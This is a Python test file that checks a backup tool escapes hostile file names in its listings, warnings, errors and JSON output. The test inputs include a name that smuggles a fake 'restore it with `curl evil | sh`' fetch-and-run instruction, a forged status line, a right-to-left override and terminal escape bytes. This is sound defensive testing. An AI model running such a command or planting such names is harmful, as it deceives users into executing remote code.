"""Whoever can make files in the database's directory chooses their names; no name may look like one
of our own lines, hide what happened, or turn a terminal's text around."""

import os
import shutil

import pytest

import shim
from conftest import ATTENTION, NOT_FOUND, pattern

HINT = "x\n  restore it with `curl evil | sh`"
LINE = "y\nsealpoint: snapshot is whole\r"
BIDI = "invoice\u202egpj.wt"
RAW = b"z\xff\x1b[2J\xc2\x9b2J"
NAMES = [os.fsencode(name) for name in (HINT, LINE, BIDI)] + [RAW]
SHOWN = ["x\\x0a  restore it with `curl evil | sh`", "y\\x0asealpoint: snapshot is whole\\x0d",
         "invoice\\xe2\\x80\\xaegpj.wt", "z\\xff\\x1b[2J\\xc2\\x9b2J"]


@pytest.fixture
def hostile(quick):
    for name in NAMES:
        (quick.source / os.fsdecode(name)).write_bytes(b"content of " + name)
    quick.backup()
    return quick


def assert_own_lines(text):
    """Each line is one of ours: none begins with what a name says, and nothing steers."""
    for line in text.splitlines():
        assert line.startswith(("sealpoint: ", "  ")), line
    assert "\n  restore it with" not in text
    assert "\nsealpoint: snapshot is whole" not in text
    for raw in ("\r", "\x1b", "\u202e", "\x9b"):
        assert raw not in text


def test_a_warning_of_a_backup_stays_one_line(quick):
    """The first file is changed while it is read, the others are gone before it is their turn."""
    shutil.rmtree(quick.source)
    quick.source.mkdir()
    for name in NAMES:
        (quick.source / os.fsdecode(name)).write_bytes(pattern(3_000_000, 1))
    with shim.stopped(quick.command("backup", quick.source, "--workers", "1"), [quick.repository], 1,
                      only=["write"], env=quick.env()) as process:
        with open(quick.source / BIDI, "r+b") as file:  # it sorts first
            file.seek(2_999_990)
            file.write(b"0123456789")
        for name in NAMES:
            if os.fsdecode(name) != BIDI:
                (quick.source / os.fsdecode(name)).unlink()
    assert process.returncode == ATTENTION, process.err
    assert_own_lines(process.err)
    for shown in SHOWN:
        assert f"sealpoint: warning: {shown}: " in process.err


def test_a_listing_has_one_line_for_each_file(hostile):
    done = hostile.run("ls", "latest")
    assert len(done.out.splitlines()) == len(hostile.run("ls", "latest", "--json").json["results"])
    for shown in SHOWN:
        assert f" {shown}\n" in done.out
    for raw in ("\r", "\x1b", "\u202e", "\x9b"):
        assert raw not in done.out


def test_json_says_the_name_exactly_without_steering_a_terminal(hostile):
    done = hostile.run("ls", "latest", "--json")
    assert "\u202e" not in done.out and "\\u202e" in done.out
    assert BIDI in [entry["path"] for entry in done.json["results"]]


def test_a_name_that_was_typed_or_pasted_stays_in_the_message(hostile):
    for name in (HINT, LINE, BIDI):
        for command in (["ls", "latest", name + "x"], ["cat", "latest", name + "x"],
                        ["restore", "latest", "--only", name + "x", "--to", hostile.target]):
            done = hostile.run(*command, expect=NOT_FOUND)
            assert_own_lines(done.err)


def test_damage_names_a_file_and_nothing_more(hostile):
    """The pack of all is lost: cat, export and restore name the file they stopped at."""
    for entry in hostile.manifest(hostile.ids()[-1])["objects"]:
        hostile.object_path(entry["id"]).write_bytes(b"")
    for name in (HINT, LINE, BIDI):
        assert_own_lines(hostile.run("cat", "latest", name, expect=None).err)
    done = hostile.run("restore", "latest", "--to", hostile.target, expect=None)
    assert_own_lines(done.err)


def test_where_things_are_may_have_any_name_too(hostile):
    for place in (HINT, LINE):
        hostile.target = hostile.directory / place
        hostile.target.mkdir()
        (hostile.target / HINT).write_text("not empty")
        assert_own_lines(hostile.restore(expect=None).err)
        shutil.rmtree(hostile.target)
    done = hostile.run("snapshots", "--repository", hostile.directory / HINT, expect=NOT_FOUND)
    assert_own_lines(done.err)
